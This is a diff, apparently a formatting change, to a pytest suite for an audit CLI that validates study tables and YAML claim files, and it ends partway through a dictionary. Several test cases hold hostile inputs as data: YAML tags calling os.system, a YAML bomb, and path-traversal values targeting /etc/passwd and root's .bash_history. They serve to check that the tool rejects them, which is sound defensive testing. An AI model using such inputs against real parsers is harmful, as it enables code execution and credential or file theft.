@@ -14,17 +14,17 @@ import os
 import re
 import subprocess
 import sys
+from collections.abc import Callable
 from dataclasses import dataclass, field
 from pathlib import Path
-from typing import Callable
 
 import pandas as pd
 import pytest
 import yaml
 from click.testing import CliRunner
+from synthetic_study import JUDGE, POLICY, claim_dict, study_rows, write_jsonl, write_study
 
 from honestci.audit.cli import main
-from synthetic_study import JUDGE, POLICY, claim_dict, study_rows, write_jsonl, write_study
 
 REPO_ROOT = Path(__file__).resolve().parents[1]
 FIVE_MB = 5 * 1024 * 1024
@@ -36,6 +36,7 @@ def judgment_line(vignette: int, pair: int, policy_first: bool, pairs: int = 4) 
 
 
 # --- building blocks --------------------------------------------------------------------------
+
 
 def audit_args(claim: Path, tmp_path: Path) -> list[str]:
     return ["audit", str(claim), "--out", str(tmp_path / "out"), "--no-bayes"]
@@ -52,8 +53,9 @@ def with_rows(change: Callable[[dict], None], **row_options) -> Callable[[Path],
     return build
 
 
-def with_file(table: str, content: bytes | Callable[[dict], bytes], name: str | None = None,
-              claim_changes: dict | None = None) -> Callable[[Path], list[str]]:
+def with_file(
+    table: str, content: bytes | Callable[[dict], bytes], name: str | None = None, claim_changes: dict | None = None
+) -> Callable[[Path], list[str]]:
     """A study whose ``table`` file is replaced by raw bytes (optionally under another name)."""
 
     def build(tmp_path: Path) -> list[str]:
@@ -173,14 +175,22 @@ def _only_other_systems(rows) -> None:
 
 # --- pieces of the optional tables -------------------------------------------------------------
 
+
 def _ratings(rows, score=5.0, duplicate=False):
     out = [{"response_id": r["response_id"], "rater_id": "r1", "score": score} for r in rows["responses"][:4]]
     return out + ([dict(out[0])] if duplicate else [])
 
 
 def _pairs(rows, label="a", same=False):
-    return [{"vignette_id": "v0", "response_a": "v0-p0", "response_b": "v0-p0" if same else "v0-o0",
-             "label": label, "rater_id": "r1"}]
+    return [
+        {
+            "vignette_id": "v0",
+            "response_a": "v0-p0",
+            "response_b": "v0-p0" if same else "v0-o0",
+            "label": label,
+            "rater_id": "r1",
+        }
+    ]
 
 
 def _nan_score(rows) -> bytes:
@@ -213,183 +223,401 @@ name: *h
 
 LOADER_CASES = [
     # JSONL structure
-    Case("jsonl-truncated-last-line", with_file("judgments", _truncate_last),
-         (f"judgments.jsonl, line {judgment_line(7, 3, False)}: is not valid JSON", "truncated")),
-    Case("jsonl-line-is-an-array", with_file("vignettes", b'{"vignette_id": "v0", "text": "t"}\n["v1", "t"]\n'),
-         ("vignettes.jsonl, line 2: is a JSON list, not an object",)),
+    Case(
+        "jsonl-truncated-last-line",
+        with_file("judgments", _truncate_last),
+        (f"judgments.jsonl, line {judgment_line(7, 3, False)}: is not valid JSON", "truncated"),
+    ),
+    Case(
+        "jsonl-line-is-an-array",
+        with_file("vignettes", b'{"vignette_id": "v0", "text": "t"}\n["v1", "t"]\n'),
+        ("vignettes.jsonl, line 2: is a JSON list, not an object",),
+    ),
     Case("jsonl-empty-file", with_file("judgments", b""), ("judgments.jsonl: has no rows",)),
     Case("jsonl-only-blank-lines", with_file("judgments", b"\n\n  \n"), ("judgments.jsonl: has no rows",)),
-    Case("jsonl-non-utf8", with_file("responses", _with_bad_byte),
-         ("responses.jsonl, line 3: is not valid UTF-8: byte 0xff",)),
-    Case("jsonl-5mb-truncated-line", with_file("responses", _long_truncated_line),
-         ("responses.jsonl, line 5: is not valid JSON",)),
+    Case(
+        "jsonl-non-utf8",
+        with_file("responses", _with_bad_byte),
+        ("responses.jsonl, line 3: is not valid UTF-8: byte 0xff",),
+    ),
+    Case(
+        "jsonl-5mb-truncated-line",
+        with_file("responses", _long_truncated_line),
+        ("responses.jsonl, line 5: is not valid JSON",),
+    ),
     # types and values
-    Case("wrong-type-list-verdict", with_rows(_set("judgments", 4, verdict=["first"])),
-         ("judgments.jsonl, line 5, field 'verdict': expected a string, got list",)),
-    Case("wrong-type-bool-id", with_rows(_set("vignettes", 2, vignette_id=True)),
-         ("vignettes.jsonl, line 3, field 'vignette_id': expected a string, got bool",)),
-    Case("wrong-type-seed-text", with_rows(_set("responses", 1, seed="forty-two")),
-         ("responses.jsonl, line 2, field 'seed': expected an integer, got str 'forty-two'",)),
-    Case("wrong-type-seed-fraction", with_rows(_set("responses", 1, seed=1.5)),
-         ("responses.jsonl, line 2, field 'seed': expected an integer, got float 1.5",)),
-    Case("null-required-field", with_rows(_set("judgments", 0, judge=None)),
-         ("judgments.jsonl, line 1, field 'judge': required value is null",)),
-    Case("missing-required-field", with_rows(_del("responses", 3, "system")),
-         ("responses.jsonl, line 4, field 'system': required field is missing",)),
-    Case("verdict-not-allowed", with_rows(_set("judgments", 9, verdict="A")),
-         ("judgments.jsonl, line 10, field 'verdict': 'A' is not one of: first, second, tie, invalid",)),
-    Case("empty-vignette-text", with_rows(_set("vignettes", 0, text="   ")),
-         ("vignettes.jsonl, line 1, field 'text': is empty",)),
-    Case("pool-not-allowed", with_rows(_set("responses", 0, pool="train")),
-         ("responses.jsonl, line 1, field 'pool': 'train' is not one of: selection, heldout",)),
-    Case("prompt-hash-not-hex", with_rows(_set("judgments", 2, prompt_sha256="not-a-hash")),
-         ("judgments.jsonl, line 3, field 'prompt_sha256': 'not-a-hash' is not 64 hexadecimal digits",)),
-    Case("response-judged-against-itself", with_rows(_set("judgments", 0, response_second="v0-p0")),
-         ("judgments.jsonl, line 1, field 'response_second': equals response_first",)),
-    Case("nan-score", with_file("human_ratings", _nan_score, claim_changes={"data": {
-        "vignettes": "vignettes.jsonl", "responses": "responses.jsonl", "judgments": "judgments.jsonl",
-        "human_ratings": "human_ratings.jsonl"}}),
-         ("human_ratings.jsonl, line 1, field 'score': required value is NaN",)),
-    Case("infinite-score", with_extra_table("human_ratings", lambda rows: _ratings(rows, score=1e999)),
-         ("human_ratings.jsonl, line 1, field 'score': is inf, not a finite number",)),
-    Case("score-as-text", with_extra_table("human_ratings", lambda rows: _ratings(rows, score="good")),
-         ("human_ratings.jsonl, line 1, field 'score': expected a number, got str 'good'",)),
-    Case("human-pair-label-not-allowed", with_extra_table("human_pairs", lambda rows: _pairs(rows, label="maybe")),
-         ("human_pairs.jsonl, line 1, field 'label': 'maybe' is not one of: a, b, tie",)),
-    Case("human-pair-same-response", with_extra_table("human_pairs", lambda rows: _pairs(rows, same=True)),
-         ("human_pairs.jsonl, line 1, field 'response_b': equals response_a",)),
+    Case(
+        "wrong-type-list-verdict",
+        with_rows(_set("judgments", 4, verdict=["first"])),
+        ("judgments.jsonl, line 5, field 'verdict': expected a string, got list",),
+    ),
+    Case(
+        "wrong-type-bool-id",
+        with_rows(_set("vignettes", 2, vignette_id=True)),
+        ("vignettes.jsonl, line 3, field 'vignette_id': expected a string, got bool",),
+    ),
+    Case(
+        "wrong-type-seed-text",
+        with_rows(_set("responses", 1, seed="forty-two")),
+        ("responses.jsonl, line 2, field 'seed': expected an integer, got str 'forty-two'",),
+    ),
+    Case(
+        "wrong-type-seed-fraction",
+        with_rows(_set("responses", 1, seed=1.5)),
+        ("responses.jsonl, line 2, field 'seed': expected an integer, got float 1.5",),
+    ),
+    Case(
+        "null-required-field",
+        with_rows(_set("judgments", 0, judge=None)),
+        ("judgments.jsonl, line 1, field 'judge': required value is null",),
+    ),
+    Case(
+        "missing-required-field",
+        with_rows(_del("responses", 3, "system")),
+        ("responses.jsonl, line 4, field 'system': required field is missing",),
+    ),
+    Case(
+        "verdict-not-allowed",
+        with_rows(_set("judgments", 9, verdict="A")),
+        ("judgments.jsonl, line 10, field 'verdict': 'A' is not one of: first, second, tie, invalid",),
+    ),
+    Case(
+        "empty-vignette-text",
+        with_rows(_set("vignettes", 0, text="   ")),
+        ("vignettes.jsonl, line 1, field 'text': is empty",),
+    ),
+    Case(
+        "pool-not-allowed",
+        with_rows(_set("responses", 0, pool="train")),
+        ("responses.jsonl, line 1, field 'pool': 'train' is not one of: selection, heldout",),
+    ),
+    Case(
+        "prompt-hash-not-hex",
+        with_rows(_set("judgments", 2, prompt_sha256="not-a-hash")),
+        ("judgments.jsonl, line 3, field 'prompt_sha256': 'not-a-hash' is not 64 hexadecimal digits",),
+    ),
+    Case(
+        "response-judged-against-itself",
+        with_rows(_set("judgments", 0, response_second="v0-p0")),
+        ("judgments.jsonl, line 1, field 'response_second': equals response_first",),
+    ),
+    Case(
+        "nan-score",
+        with_file(
+            "human_ratings",
+            _nan_score,
+            claim_changes={
+                "data": {
+                    "vignettes": "vignettes.jsonl",
+                    "responses": "responses.jsonl",
+                    "judgments": "judgments.jsonl",
+                    "human_ratings": "human_ratings.jsonl",
+                }
+            },
+        ),
+        ("human_ratings.jsonl, line 1, field 'score': required value is NaN",),
+    ),
+    Case(
+        "infinite-score",
+        with_extra_table("human_ratings", lambda rows: _ratings(rows, score=1e999)),
+        ("human_ratings.jsonl, line 1, field 'score': is inf, not a finite number",),
+    ),
+    Case(
+        "score-as-text",
+        with_extra_table("human_ratings", lambda rows: _ratings(rows, score="good")),
+        ("human_ratings.jsonl, line 1, field 'score': expected a number, got str 'good'",),
+    ),
+    Case(
+        "human-pair-label-not-allowed",
+        with_extra_table("human_pairs", lambda rows: _pairs(rows, label="maybe")),
+        ("human_pairs.jsonl, line 1, field 'label': 'maybe' is not one of: a, b, tie",),
+    ),
+    Case(
+        "human-pair-same-response",
+        with_extra_table("human_pairs", lambda rows: _pairs(rows, same=True)),
+        ("human_pairs.jsonl, line 1, field 'response_b': equals response_a",),
+    ),
     # duplicates
-    Case("duplicate-vignette-id", with_rows(_append_copy("vignettes", 0)),
-         ("vignettes.jsonl, line 9, field 'vignette_id': vignette_id='v0' occurs 2 times, on lines 1, 9",)),
-    Case("duplicate-response-id", with_rows(_append_copy("responses", 5)),
-         ("responses.jsonl, line 65, field 'response_id': response_id='v0-o2' occurs 2 times",)),
-    Case("duplicate-judgment", with_rows(_append_copy("judgments", 0)),
-         ("judgments.jsonl, line 65, field 'judge, response_first, response_second'", "occurs 2 times, on lines 1, 65")),
-    Case("duplicate-rating", with_extra_table("human_ratings", lambda rows: _ratings(rows, duplicate=True)),
-         ("human_ratings.jsonl, line 5, field 'response_id, rater_id'", "occurs 2 times")),
-    Case("duplicate-corpus-doc", with_extra_table("corpus", lambda rows: [{"doc_id": "d1", "text": "a"},
-                                                                         {"doc_id": "d1", "text": "b"}]),
-         ("corpus.jsonl, line 2, field 'doc_id': doc_id='d1' occurs 2 times",)),
+    Case(
+        "duplicate-vignette-id",
+        with_rows(_append_copy("vignettes", 0)),
+        ("vignettes.jsonl, line 9, field 'vignette_id': vignette_id='v0' occurs 2 times, on lines 1, 9",),
+    ),
+    Case(
+        "duplicate-response-id",
+        with_rows(_append_copy("responses", 5)),
+        ("responses.jsonl, line 65, field 'response_id': response_id='v0-o2' occurs 2 times",),
+    ),
+    Case(
+        "duplicate-judgment",
+        with_rows(_append_copy("judgments", 0)),
+        ("judgments.jsonl, line 65, field 'judge, response_first, response_second'", "occurs 2 times, on lines 1, 65"),
+    ),
+    Case(
+        "duplicate-rating",
+        with_extra_table("human_ratings", lambda rows: _ratings(rows, duplicate=True)),
+        ("human_ratings.jsonl, line 5, field 'response_id, rater_id'", "occurs 2 times"),
+    ),
+    Case(
+        "duplicate-corpus-doc",
+        with_extra_table("corpus", lambda rows: [{"doc_id": "d1", "text": "a"}, {"doc_id": "d1", "text": "b"}]),
+        ("corpus.jsonl, line 2, field 'doc_id': doc_id='d1' occurs 2 times",),
+    ),
     # references
-    Case("judgment-unknown-vignette", with_rows(_set("judgments", 6, vignette_id="v99")),
-         ("judgments.jsonl, line 7, field 'vignette_id': vignette 'v99' is not in the vignettes table",)),
-    Case("judgment-unknown-response", with_rows(_set("judgments", 6, response_first="ghost")),
-         ("judgments.jsonl, line 7, field 'response_first': response 'ghost' is not in the responses table",)),
-    Case("judgment-response-of-other-vignette", with_rows(_set("judgments", 0, response_second="v1-o0")),
-         ("judgments.jsonl, line 1, field 'response_second': response 'v1-o0' belongs to vignette 'v1', not 'v0'",)),
-    Case("response-unknown-vignette", with_rows(_set("responses", 0, vignette_id="nowhere")),
-         ("responses.jsonl, line 1, field 'vignette_id': vignette 'nowhere' is not in the vignettes table",)),
-    Case("rating-unknown-response", with_extra_table("human_ratings", lambda rows: [
-        {"response_id": "ghost", "rater_id": "r1", "score": 3}]),
-         ("human_ratings.jsonl, line 1, field 'response_id': response 'ghost' is not in the responses table",)),
+    Case(
+        "judgment-unknown-vignette",
+        with_rows(_set("judgments", 6, vignette_id="v99")),
+        ("judgments.jsonl, line 7, field 'vignette_id': vignette 'v99' is not in the vignettes table",),
+    ),
+    Case(
+        "judgment-unknown-response",
+        with_rows(_set("judgments", 6, response_first="ghost")),
+        ("judgments.jsonl, line 7, field 'response_first': response 'ghost' is not in the responses table",),
+    ),
+    Case(
+        "judgment-response-of-other-vignette",
+        with_rows(_set("judgments", 0, response_second="v1-o0")),
+        ("judgments.jsonl, line 1, field 'response_second': response 'v1-o0' belongs to vignette 'v1', not 'v0'",),
+    ),
+    Case(
+        "response-unknown-vignette",
+        with_rows(_set("responses", 0, vignette_id="nowhere")),
+        ("responses.jsonl, line 1, field 'vignette_id': vignette 'nowhere' is not in the vignettes table",),
+    ),
+    Case(
+        "rating-unknown-response",
+        with_extra_table("human_ratings", lambda rows: [{"response_id": "ghost", "rater_id": "r1", "score": 3}]),
+        ("human_ratings.jsonl, line 1, field 'response_id': response 'ghost' is not in the responses table",),
+    ),
     # CSV
-    Case("csv-missing-column", with_file("vignettes", lambda rows: csv_bytes(rows["vignettes"], drop="text"),
-                                         name="vignettes.csv"),
-         ("vignettes.csv, line 1, field 'text': required column is missing",)),
-    Case("csv-ragged-row", with_file("vignettes", b"vignette_id,text\nv0,a,b\n", name="vignettes.csv"),
-         ("vignettes.csv, line 2: has 3 fields but the header has 2",)),
-    Case("csv-unclosed-quote", with_file("vignettes", b'vignette_id,text\nv0,"never closed\n', name="vignettes.csv"),
-         ("vignettes.csv, line 2",)),
-    Case("csv-duplicate-header", with_file("vignettes", b"vignette_id,text,text\nv0,a,b\n", name="vignettes.csv"),
-         ("vignettes.csv, line 1, field 'text': column appears more than once in the header",)),
-    Case("csv-non-utf8", with_file("vignettes", b"vignette_id,text\nv0,caf\xe9\n", name="vignettes.csv"),
-         ("vignettes.csv, line 2: is not valid UTF-8: byte 0xe9",)),
+    Case(
+        "csv-missing-column",
+        with_file("vignettes", lambda rows: csv_bytes(rows["vignettes"], drop="text"), name="vignettes.csv"),
+        ("vignettes.csv, line 1, field 'text': required column is missing",),
+    ),
+    Case(
+        "csv-ragged-row",
+        with_file("vignettes", b"vignette_id,text\nv0,a,b\n", name="vignettes.csv"),
+        ("vignettes.csv, line 2: has 3 fields but the header has 2",),
+    ),
+    Case(
+        "csv-unclosed-quote",
+        with_file("vignettes", b'vignette_id,text\nv0,"never closed\n', name="vignettes.csv"),
+        ("vignettes.csv, line 2",),
+    ),
+    Case(
+        "csv-duplicate-header",
+        with_file("vignettes", b"vignette_id,text,text\nv0,a,b\n", name="vignettes.csv"),
+        ("vignettes.csv, line 1, field 'text': column appears more than once in the header",),
+    ),
+    Case(
+        "csv-non-utf8",
+        with_file("vignettes", b"vignette_id,text\nv0,caf\xe9\n", name="vignettes.csv"),
+        ("vignettes.csv, line 2: is not valid UTF-8: byte 0xe9",),
+    ),
     Case("csv-empty-file", with_file("vignettes", b"", name="vignettes.csv"), ("vignettes.csv: has no rows",)),
-    Case("csv-header-only", with_file("vignettes", b"vignette_id,text\n", name="vignettes.csv"),
-         ("vignettes.csv: has no rows",)),
+    Case(
+        "csv-header-only",
+        with_file("vignettes", b"vignette_id,text\n", name="vignettes.csv"),
+        ("vignettes.csv: has no rows",),
+    ),
     # Parquet and gzip
-    Case("parquet-not-parquet", with_file("vignettes", b"PAR1 this is not parquet", name="vignettes.parquet"),
-         ("vignettes.parquet: not a readable Parquet file",)),
-    Case("parquet-wrong-type", with_file("judgments", lambda rows: parquet_bytes(
-        pd.DataFrame(rows["judgments"]).assign(verdict=3.5), Path("/tmp") / f"h10-{os.getpid()}-wrong"),
-        name="judgments.parquet"),
-         ("judgments.parquet, line 1, field 'verdict': expected a string, got float 3.5",)),
-    Case("parquet-missing-column", with_file("vignettes", lambda rows: parquet_bytes(
-        pd.DataFrame(rows["vignettes"]).drop(columns="text"), Path("/tmp") / f"h10-{os.getpid()}-missing"),
-        name="vignettes.parquet"),
-         ("vignettes.parquet, field 'text': required column is missing",)),
-    Case("gzip-corrupt", with_file("judgments", b"\x1f\x8b\x08\x00garbage", name="judgments.jsonl.gz"),
-         ("judgments.jsonl.gz: not a readable gzip file",)),
-    Case("gzip-truncated", with_file("judgments", lambda rows: gzip.compress(jsonl(rows["judgments"]))[:200],
-                                     name="judgments.jsonl.gz"),
-         ("judgments.jsonl.gz: not a readable gzip file",)),
-    Case("unknown-extension", with_file("judgments", b"{}", name="judgments.txt"),
-         ("judgments.txt: cannot tell the file's format from its name",)),
+    Case(
+        "parquet-not-parquet",
+        with_file("vignettes", b"PAR1 this is not parquet", name="vignettes.parquet"),
+        ("vignettes.parquet: not a readable Parquet file",),
+    ),
+    Case(
+        "parquet-wrong-type",
+        with_file(
+            "judgments",
+            lambda rows: parquet_bytes(
+                pd.DataFrame(rows["judgments"]).assign(verdict=3.5), Path("/tmp") / f"h10-{os.getpid()}-wrong"
+            ),
+            name="judgments.parquet",
+        ),
+        ("judgments.parquet, line 1, field 'verdict': expected a string, got float 3.5",),
+    ),
+    Case(
+        "parquet-missing-column",
+        with_file(
+            "vignettes",
+            lambda rows: parquet_bytes(
+                pd.DataFrame(rows["vignettes"]).drop(columns="text"), Path("/tmp") / f"h10-{os.getpid()}-missing"
+            ),
+            name="vignettes.parquet",
+        ),
+        ("vignettes.parquet, field 'text': required column is missing",),
+    ),
+    Case(
+        "gzip-corrupt",
+        with_file("judgments", b"\x1f\x8b\x08\x00garbage", name="judgments.jsonl.gz"),
+        ("judgments.jsonl.gz: not a readable gzip file",),
+    ),
+    Case(
+        "gzip-truncated",
+        with_file("judgments", lambda rows: gzip.compress(jsonl(rows["judgments"]))[:200], name="judgments.jsonl.gz"),
+        ("judgments.jsonl.gz: not a readable gzip file",),
+    ),
+    Case(
+        "unknown-extension",
+        with_file("judgments", b"{}", name="judgments.txt"),
+        ("judgments.txt: cannot tell the file's format from its name",),
+    ),
 ]
 
 CONTEST_CASES = [
-    Case("policy-not-in-responses", with_claim_changes(policy="no-such-model"),
-         ("no judgments compare 'no-such-model' with 'opponent-m'", "name systems from the responses table")),
-    Case("opponent-not-in-responses", with_claim_changes(opponent="gpt-9"),
-         ("no judgments compare 'policy-m' with 'gpt-9'",)),
-    Case("judge-not-present", with_claim_changes(judge="claude-judge"),
-         ("judge 'claude-judge' did not compare 'policy-m' with 'opponent-m'", f"use one of: {JUDGE}")),
-    Case("policy-equals-opponent", with_claim_changes(opponent=POLICY),
-         ("policy and opponent are both 'policy-m'",)),
-    Case("zero-contests-systems-never-met", with_rows(_only_other_systems),
-         ("no judgments compare 'policy-m' with 'opponent-m'", "pairs judged: other-a vs other-b")),
-    Case("zero-contests-all-invalid", with_rows(lambda rows: None, verdicts=("invalid",)),
-         ("No scored contests",)),
-    Case("one-order-only", with_rows(_drop_order),
-         (f"judgments.jsonl, line {judgment_line(3, 1, True)}, field 'response_first'",
-          "judged in one order only", "allow_single_order")),
+    Case(
+        "policy-not-in-responses",
+        with_claim_changes(policy="no-such-model"),
+        ("no judgments compare 'no-such-model' with 'opponent-m'", "name systems from the responses table"),
+    ),
+    Case(
+        "opponent-not-in-responses",
+        with_claim_changes(opponent="gpt-9"),
+        ("no judgments compare 'policy-m' with 'gpt-9'",),
+    ),
+    Case(
+        "judge-not-present",
+        with_claim_changes(judge="claude-judge"),
+        ("judge 'claude-judge' did not compare 'policy-m' with 'opponent-m'", f"use one of: {JUDGE}"),
+    ),
+    Case("policy-equals-opponent", with_claim_changes(opponent=POLICY), ("policy and opponent are both 'policy-m'",)),
+    Case(
+        "zero-contests-systems-never-met",
+        with_rows(_only_other_systems),
+        ("no judgments compare 'policy-m' with 'opponent-m'", "pairs judged: other-a vs other-b"),
+    ),
+    Case("zero-contests-all-invalid", with_rows(lambda rows: None, verdicts=("invalid",)), ("No scored contests",)),
+    Case(
+        "one-order-only",
+        with_rows(_drop_order),
+        (
+            f"judgments.jsonl, line {judgment_line(3, 1, True)}, field 'response_first'",
+            "judged in one order only",
+            "allow_single_order",
+        ),
+    ),
 ]
 
 CLAIM_CASES = [
-    Case("claim-missing", lambda tmp: audit_args(tmp / "nowhere.yaml", tmp),
-         ("nowhere.yaml does not exist",)),
-    Case("claim-is-a-directory", lambda tmp: audit_args(write_study(tmp / "study").parent, tmp),
-         ("study is a directory, not a claim file",)),
+    Case("claim-missing", lambda tmp: audit_args(tmp / "nowhere.yaml", tmp), ("nowhere.yaml does not exist",)),
+    Case(
+        "claim-is-a-directory",
+        lambda tmp: audit_args(write_study(tmp / "study").parent, tmp),
+        ("study is a directory, not a claim file",),
+    ),
     Case("claim-empty", with_claim(""), ("claim.yaml is empty",)),
     Case("claim-non-utf8", with_claim(b"name: caf\xe9\n"), ("claim.yaml is not UTF-8 text",)),
     Case("claim-not-a-mapping", with_claim("- a\n- list\n"), ("must hold a YAML mapping", "not list")),
-    Case("claim-yaml-syntax", with_claim("version: 1\nname: [unclosed\nbar: 0.5\n"),
-         ("claim.yaml is not valid YAML", "claim.yaml, line 3")),
-    Case("claim-python-object-tag", with_claim("!!python/object/apply:os.system ['echo pwned']\n"),
-         ("claim.yaml is not valid YAML", "python/object/apply:os.system")),
-    Case("claim-python-name-tag", with_claim(lambda _: claim_yaml() + "policy2: !!python/name:os.system\n"),
-         ("claim.yaml is not valid YAML", "python/name:os.system")),
+    Case(
+        "claim-yaml-syntax",
+        with_claim("version: 1\nname: [unclosed\nbar: 0.5\n"),
+        ("claim.yaml is not valid YAML", "claim.yaml, line 3"),
+    ),
+    Case(
+        "claim-python-object-tag",
+        with_claim("!!python/object/apply:os.system ['echo pwned']\n"),
+        ("claim.yaml is not valid YAML", "python/object/apply:os.system"),
+    ),
+    Case(
+        "claim-python-name-tag",
+        with_claim(lambda _: claim_yaml() + "policy2: !!python/name:os.system\n"),
+        ("claim.yaml is not valid YAML", "python/name:os.system"),
+    ),
     Case("claim-yaml-bomb", with_claim(YAML_BOMB), ("claim.yaml, field 'name': Input should be a valid string",)),
-    Case("claim-duplicate-key", with_claim(lambda _: claim_yaml() + "bar: 0.01\n"),
-         ("claim.yaml, line", "duplicate key 'bar'")),
-    Case("claim-unknown-key", with_claim(lambda _: claim_yaml(colour="red")),
-         ("claim.yaml, field 'colour': unknown key",)),
+    Case(
+        "claim-duplicate-key",
+        with_claim(lambda _: claim_yaml() + "bar: 0.01\n"),
+        ("claim.yaml, line", "duplicate key 'bar'"),
+    ),
+    Case(
+        "claim-unknown-key",
+        with_claim(lambda _: claim_yaml(colour="red")),
+        ("claim.yaml, field 'colour': unknown key",),
+    ),
     Case("claim-bar-not-a-number", with_claim_changes(bar="high"), ("claim.yaml, field 'bar'",)),
-    Case("claim-bar-nan", with_claim(lambda _: claim_yaml().replace("bar: 0.5", "bar: .nan")),
-         ("claim.yaml, field 'bar': Input should be",)),
+    Case(
+        "claim-bar-nan",
+        with_claim(lambda _: claim_yaml().replace("bar: 0.5", "bar: .nan")),
+        ("claim.yaml, field 'bar': Input should be",),
+    ),
     Case("claim-bar-above-one", with_claim_changes(bar=1.5), ("claim.yaml, field 'bar': Input should be less than 1",)),
-    Case("claim-version-unknown", with_claim_changes(version=7), ("claim.yaml, field 'version'", "version 7 is not supported")),
+    Case(
+        "claim-version-unknown",
+        with_claim_changes(version=7),
+        ("claim.yaml, field 'version'", "version 7 is not supported"),
+    ),
     Case("claim-population-unknown", with_claim_changes(population="everyone"), ("claim.yaml, field 'population'",)),
-    Case("claim-required-gate-unknown", with_claim_changes(required_gates=["vibes"]),
-         ("claim.yaml, field 'required_gates'", "unknown gate(s) ['vibes']")),
-    Case("claim-threshold-wrong-type", with_claim_changes(thresholds={"min_clusters": "five"}),
-         ("claim.yaml, field 'thresholds.min_clusters'", "an integer")),
-    Case("claim-threshold-out-of-range", with_claim_changes(thresholds={"confidence_level": 1.5}),
-         ("claim.yaml, field 'thresholds.confidence_level'", "between 0 and 1")),
-    Case("claim-missing-policy", with_claim(lambda _: claim_yaml().replace("policy: policy-m\n", "")),
-         ("claim.yaml, field 'policy': Field required",)),
-    Case("claim-missing-required-table", with_claim_changes(data={"vignettes": "vignettes.jsonl",
-                                                                 "responses": "responses.jsonl"}),
-         ("claim.yaml, field 'data'", "missing required table(s) ['judgments']")),
-    Case("claim-data-path-null", with_claim_changes(data={"vignettes": None, "responses": "responses.jsonl",
-                                                         "judgments": "judgments.jsonl"}),
-         ("claim.yaml, field 'data.vignettes'",)),
-    Case("claim-path-parent-escape", with_claim_changes(data={"vignettes": "../../etc/passwd",
-                                                             "responses": "responses.jsonl", "judgments": "judgments.jsonl"}),
-         ("claim.yaml, field 'data.vignettes': '../../etc/passwd' resolves outside the claim's folder",
-          "--allow-outside-data")),
-    Case("claim-path-absolute", with_claim_changes(data={"vignettes": "/etc/passwd", "responses": "responses.jsonl",
-                                                        "judgments": "judgments.jsonl"}),
-         ("claim.yaml, field 'data.vignettes': '/etc/passwd' resolves outside the claim's folder",)),
-    Case("claim-training-log-escape", with_claim_changes(training_log="../../../root/.bash_history"),
-         ("claim.yaml, field 'training_log': '../../../root/.bash_history' resolves outside",)),
-    Case("claim-data-is-a-directory", lambda tmp: audit_args(_claim_with_dir_data(tmp), tmp),
-         ("claim.yaml, field 'data.judgments': 'judgments.jsonl' is a directory, not a file",)),
-    Case("claim-data-file-missing", with_claim_changes(data={"vignettes": "vignettes.jsonl",
-                                                            "responses": "responses.jsonl", "judgments": "j2.jsonl"}),
-         ("claim.yaml, field 'data.judgments': file 'j2.jsonl' not found",)),
-    Case("claim-symlink-outside", lambda tmp: audit_args(_claim_with_symlink_outside(tmp), tmp),
-         ("claim.yaml, field 'data.vignettes': 'vignettes.jsonl' resolves outside the claim's folder",)),
+    Case(
+        "claim-required-gate-unknown",
+        with_claim_changes(required_gates=["vibes"]),
+        ("claim.yaml, field 'required_gates'", "unknown gate(s) ['vibes']"),
+    ),
+    Case(
+        "claim-threshold-wrong-type",
+        with_claim_changes(thresholds={"min_clusters": "five"}),
+        ("claim.yaml, field 'thresholds.min_clusters'", "an integer"),
+    ),
+    Case(
+        "claim-threshold-out-of-range",
+        with_claim_changes(thresholds={"confidence_level": 1.5}),
+        ("claim.yaml, field 'thresholds.confidence_level'", "between 0 and 1"),
+    ),
+    Case(
+        "claim-missing-policy",
+        with_claim(lambda _: claim_yaml().replace("policy: policy-m\n", "")),
+        ("claim.yaml, field 'policy': Field required",),
+    ),
+    Case(
+        "claim-missing-required-table",
+        with_claim_changes(data={"vignettes": "vignettes.jsonl", "responses": "responses.jsonl"}),
+        ("claim.yaml, field 'data'", "missing required table(s) ['judgments']"),
+    ),
+    Case(
+        "claim-data-path-null",
+        with_claim_changes(data={"vignettes": None, "responses": "responses.jsonl", "judgments": "judgments.jsonl"}),
+        ("claim.yaml, field 'data.vignettes'",),
+    ),
+    Case(
+        "claim-path-parent-escape",
+        with_claim_changes(
+            data={"vignettes": "../../etc/passwd", "responses": "responses.jsonl", "judgments": "judgments.jsonl"}
+        ),
+        (
+            "claim.yaml, field 'data.vignettes': '../../etc/passwd' resolves outside the claim's folder",
+            "--allow-outside-data",
+        ),
+    ),
+    Case(
+        "claim-path-absolute",
+        with_claim_changes(
+            data={"vignettes": "/etc/passwd", "responses": "responses.jsonl", "judgments": "judgments.jsonl"}
+        ),
+        ("claim.yaml, field 'data.vignettes': '/etc/passwd' resolves outside the claim's folder",),
+    ),
+    Case(
+        "claim-training-log-escape",
+        with_claim_changes(training_log="../../../root/.bash_history"),
+        ("claim.yaml, field 'training_log': '../../../root/.bash_history' resolves outside",),
+    ),
+    Case(
+        "claim-data-is-a-directory",
+        lambda tmp: audit_args(_claim_with_dir_data(tmp), tmp),
+        ("claim.yaml, field 'data.judgments': 'judgments.jsonl' is a directory, not a file",),
+    ),
+    Case(
+        "claim-data-file-missing",
+        with_claim_changes(
+            data={"vignettes": "vignettes.jsonl", "responses": "responses.jsonl", "judgments": "j2.jsonl"}
+        ),
+        ("claim.yaml, field 'data.judgments': file 'j2.jsonl' not found",),
+    ),
+    Case(
+        "claim-symlink-outside",
+        lambda tmp: audit_args(_claim_with_symlink_outside(tmp), tmp),
+        ("claim.yaml, field 'data.vignettes': 'vignettes.jsonl' resolves outside the claim's folder",),
+    ),
 ]
 
 
@@ -411,6 +639,7 @@ def _claim_with_symlink_outside(tmp_path: Path) -> Path:
 
 # --- importers ----------------------------------------------------------------------------------
 
+
 def importer(fmt: str, name: str, content: bytes, *extra: str) -> Callable[[Path], list[str]]:
     def build(tmp_path: Path) -> list[str]:
         source = tmp_path / name
@@ -420,12 +649,36 @@ def importer(fmt: str, name: str, content: bytes, *extra: str) -> Callable[[Path
     return build
 
 
-ALPACA_RECORD = {"instruction": "Say hi", "output_1": "hi", "output_2": "hello", "generator_1": "base",
-                 "generator_2": "model", "annotator": "gpt4", "preference": 2}
-MT_RECORD = {"question_id": 81, "model_1": "a", "model_2": "b", "g1_winner": "model_1", "g2_winner": "model_2",
-             "judge": ["gpt-4", "pair-v2"], "turn": 1}
-GENERIC_MAP = ("--map", "vignette_id=q", "--map", "response_first=a", "--map", "response_second=b",
-               "--map", "verdict=w", "--judge", "j")
+ALPACA_RECORD = {
+    "instruction": "Say hi",
+    "output_1": "hi",
+    "output_2": "hello",
+    "generator_1": "base",
+    "generator_2": "model",
+    "annotator": "gpt4",
+    "preference": 2,
+}
+MT_RECORD = {
